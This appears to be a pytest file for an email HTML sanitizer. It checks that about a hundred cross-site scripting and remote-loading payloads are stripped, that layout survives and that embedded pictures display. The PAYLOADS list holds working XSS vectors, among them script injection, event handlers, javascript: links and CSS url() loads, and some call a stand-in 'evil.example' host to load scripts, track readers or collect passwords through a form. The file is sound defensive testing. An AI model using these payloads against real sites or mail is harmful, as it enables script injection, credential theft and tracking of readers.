"""Nothing in a letter runs, loads, sends or leaves its frame, whatever it is made of: R41, Q14."""

import time
from base64 import b64encode

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml.html import HtmlElement, fragments_fromstring  # type: ignore[import-untyped] # it has no types

from mail.safe_html import LARGEST_HTML, as_text, referred_pictures, safe_html

PICTURE = f"data:image/png;base64,{b64encode(b'pixels').decode()}"
HERE = {"one@letter": PICTURE}
ALLOWED_LINKS = ("http://", "https://", "mailto:", "tel:")
LOADING = {"src", "srcset", "background", "action", "formaction", "poster", "data", "ping", "style"}
PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1);//<</script>",
    "<script>alert(1)",
    '<img src=x onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x' onerror\n=\nalert(1)>",
    '<img src="x`" `onerror=alert(1)>',
    '<img """><script>alert(1)</script>">',
    '<img src="javascript:alert(1)">',
    "<img src=JaVaScRiPt:alert(1)>",
    '<img src="jav&#x09;ascript:alert(1)">',
    '<img src="http://evil.example/pixel.png">',
    '<img src="//evil.example/pixel.png">',
    '<img src="/api/tickets">',
    '<img srcset="http://evil.example/a.png 1x">',
    '<img src="cid:one@letter" srcset="http://evil.example/a.png 2x" onload=alert(1)>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<img src="data:image/png;base64,AAAA">',
    '<img lowsrc="http://evil.example/a.png" dynsrc="http://evil.example/a.png">',
    '<image src="http://evil.example/a.png">',
    '<picture><source srcset="http://evil.example/a.png"><img></picture>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=1 y=1>click</text></a></svg>',
    '<svg><image href="http://evil.example/a.png"></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    '<table background="http://evil.example/a.png"><td background="javascript:alert(1)">x</table>',
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<frameset><frame src="javascript:alert(1)"></frameset>',
    '<object data="javascript:alert(1)"></object>',
    "<object type=text/html data=http://evil.example></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=Evil archive=http://evil.example/x.jar></applet>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="//evil.example">x</a>',
    '<a href="cid:one@letter">x</a>',
    '<a href="https://good.example" ping="http://evil.example" onclick=alert(1)>x</a>',
    '<a href="https://good.example" target=_self rel=opener>x</a>',
    '<form action="http://evil.example"><input name=password><button>OK</button></form>',
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    '<input type=image src="http://evil.example/a.png" onfocus=alert(1) autofocus>',
    "<isindex action=javascript:alert(1) type=image>",
    "<textarea></textarea><script>alert(1)</script>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>",
    "<keygen autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    '<video poster="http://evil.example/a.png" src="http://evil.example/a.mp4"></video>',
    "<audio src=http://evil.example/a.mp3 autoplay onplay=alert(1)></audio>",
    '<link rel=stylesheet href="http://evil.example/a.css">',
    '<link rel=import href="data:text/html,<script>alert(1)</script>">',
    '<link rel="dns-prefetch" href="//evil.example">',
    "<style>@import url(http://evil.example/a.css);</style>",
    "<style>body{background:url(http://evil.example/a.png)}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    '<p style="background:url(http://evil.example/a.png)">x</p>',
    '<p style="background-image:url(//evil.example/a.png)">x</p>',
    '<p style="background:u\\72l(http://evil.example/a.png)">x</p>',
    '<p style="color:red;background:/**/url(//evil.example)">x</p>',
    '<p style="width:expression(alert(1))">x</p>',
    '<p style="behavior:url(evil.htc)">x</p>',
    '<p style="-moz-binding:url(http://evil.example/xbl)">x</p>',
    '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
    "<p style=\"font-family:'a;background:url(//evil.example)'\">x</p>",
    "<p style=\"background:image-set('http://evil.example/a.png' 1x)\">x</p>",
    '<p style="list-style-image:url(http://evil.example/a.png)">x</p>',
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv=refresh content="0;url=http://evil.example">',
    '<base href="http://evil.example/"><a href=x>x</a>',
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noembed><img title='</noembed><img src=x onerror=alert(1)>'></noembed>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<p id=cookie name=body class=x data-x=1 contenteditable>x</p>",
    "<div><custom-element onclick=alert(1) is=x>x</custom-element></div>",
    '<a href="https://good.example/\\"onmouseover=alert(1)">x</a>',
    "<b onmouseover=alert(1) ONCLICK=alert(1) on\x00error=alert(1)>x</b>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "＜script＞alert(1)＜/script＞",
    "<p lang='\"><script>alert(1)</script>' title='<img src=x onerror=alert(1)>'>x</p>",
)


def elements(shown: str) -> list[HtmlElement]:
    """Return every element of what is shown, as another parser than the sanitizer's sees it."""
    roots = [one for one in fragments_fromstring(shown) if not isinstance(one, str)]
    return [element for root in roots for element in root.iter()]


def flaws(shown: str) -> list[str]:
    """Name whatever could run, load, send or lie about where it leads."""
    return [flaw for element in elements(shown) for flaw in flaws_of(element)]


def flaws_of(element: HtmlElement) -> list[str]:
    banned = {"script", "style", "form", "input", "button", "iframe", "object", "embed", "link"}
    banned |= {"meta", "base", "svg", "math", "video", "audio", "template", "textarea", "select"}
    found = (
        [f"<{element.tag}>"] if not isinstance(element.tag, str) or element.tag in banned else []
    )
    for name, value in element.attrib.items():
        is_harmless = {
            "src": value == PICTURE,
            "href": value.lower().startswith(ALLOWED_LINKS),
            "style": not any(bad in value for bad in ("url", "\\", ":/", "@", "position", "exp")),
        }.get(
            name, name not in LOADING and not name.startswith("on") and name not in {"id", "name"}
        )
        found += [] if is_harmless else [f"{name}={value[:80]}"]
    return found


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_of_an_attack_is_left(payload: str) -> None:  # Q14
    shown = safe_html(f"<p>Здравствуйте</p>{payload}<p>С уважением</p>", HERE)

    assert flaws(shown) == []
    assert "Здравствуйте" in shown


def test_this_eye_for_flaws_is_not_blind() -> None:
    seen = [payload for payload in PAYLOADS if flaws(f"<p>a</p>{payload}")]

    assert len(seen) > 80


@settings(max_examples=400)
@given(
    st.lists(
        st.sampled_from((*PAYLOADS, "<table>", "</p>", "<b>", "'", '"', ">", "<!--")), max_size=6
    )
)
def test_attacks_do_not_help_one_another(payloads: list[str]) -> None:
    shown = safe_html("".join(payloads), HERE)

    assert flaws(shown) == []
    assert safe_html(shown, {}) == safe_html(safe_html(shown, {}), {})


@settings(max_examples=200)
@given(st.text(alphabet="<>/=\"'! -abimgsrcptonef:&#;\x00\t", max_size=120))
def test_no_row_of_characters_gets_through(html: str) -> None:
    assert flaws(safe_html(html, HERE)) == []


def test_a_letter_keeps_its_shape() -> None:
    html = (
        '<table border="1"><tr><td colspan="2" style="color: #ff0000; text-align:center">'
        "Версия <b>8.3</b></td></tr></table><ol><li>Открыть</li></ol>"
        '<blockquote type="cite">Как дела?</blockquote><pre>SELECT 1</pre>'
    )

    shown = safe_html(html, {})

    kept = ("<b>8.3</b>", 'colspan="2"', "color: #ff0000", "text-align: center", "<li>Открыть")
    assert all(part in shown for part in (*kept, "<blockquote>", "<pre>SELECT 1</pre>"))


def test_a_link_opens_elsewhere_and_tells_nothing_of_us() -> None:
    shown = safe_html('<a href=" HTTPS://a.example/?x=1&y=2 ">смотрите</a>', {})

    (link,) = elements(shown)
    assert link.get("href") == "HTTPS://a.example/?x=1&y=2"
    assert (link.get("target"), link.get("rel")) == ("_blank", "noopener noreferrer nofollow")


@pytest.mark.parametrize("source", ["cid:one@letter", "CID:one%40letter", " cid:one@letter "])
def test_a_verified_picture_of_the_letter_is_shown_in_its_place(source: str) -> None:  # R41 R42
    shown = safe_html(f'<p>Экран: <img src="{source}" width="300"></p>', HERE)

    assert f'src="{PICTURE}"' in shown
    assert 'width="300"' in shown
    assert referred_pictures(f'<img src="{source}">') == {"one@letter"}


def test_in_place_of_another_picture_stand_words() -> None:
    shown = safe_html(
        '<img src="http://evil.example/a.png" alt="Логотип &lt;b&gt;"><img src="cid:two@letter">',
        HERE,
    )

    assert shown == (
        "<span>[картинка не показана: Логотип &lt;b&gt;]</span><span>[картинка не показана]</span>"
    )


def test_an_image_that_only_reports_the_reading_leaves_no_trace() -> None:
    assert safe_html('a<img src="http://evil.example/t.gif" width="1" height="1">b', {}) == "ab"


def test_one_picture_many_times_does_not_fill_the_memory() -> None:
    large = {"one@letter": "data:image/png;base64," + "A" * 5_000_000}

    shown = safe_html('<img src="cid:one@letter">' * 1000, large)

    assert len(shown) < 25_000_000
    assert shown.count("[картинка не показана]") == 996


def test_html_without_measure_is_shown_as_text() -> None:
    begun = time.monotonic()
    shown = safe_html("<div>слово <script>alert(1)</script>" * (LARGEST_HTML // 30), {})

    assert shown.startswith("<pre>слово")
    assert flaws(shown) == []
    assert len(shown) < LARGEST_HTML
    assert time.monotonic() - begun < 10


def test_text_is_shown_as_it_reads() -> None:
    assert as_text("<p>1 &lt; 2 &amp; 3</p>") == "<pre>1 &lt; 2 &amp; 3</pre>"
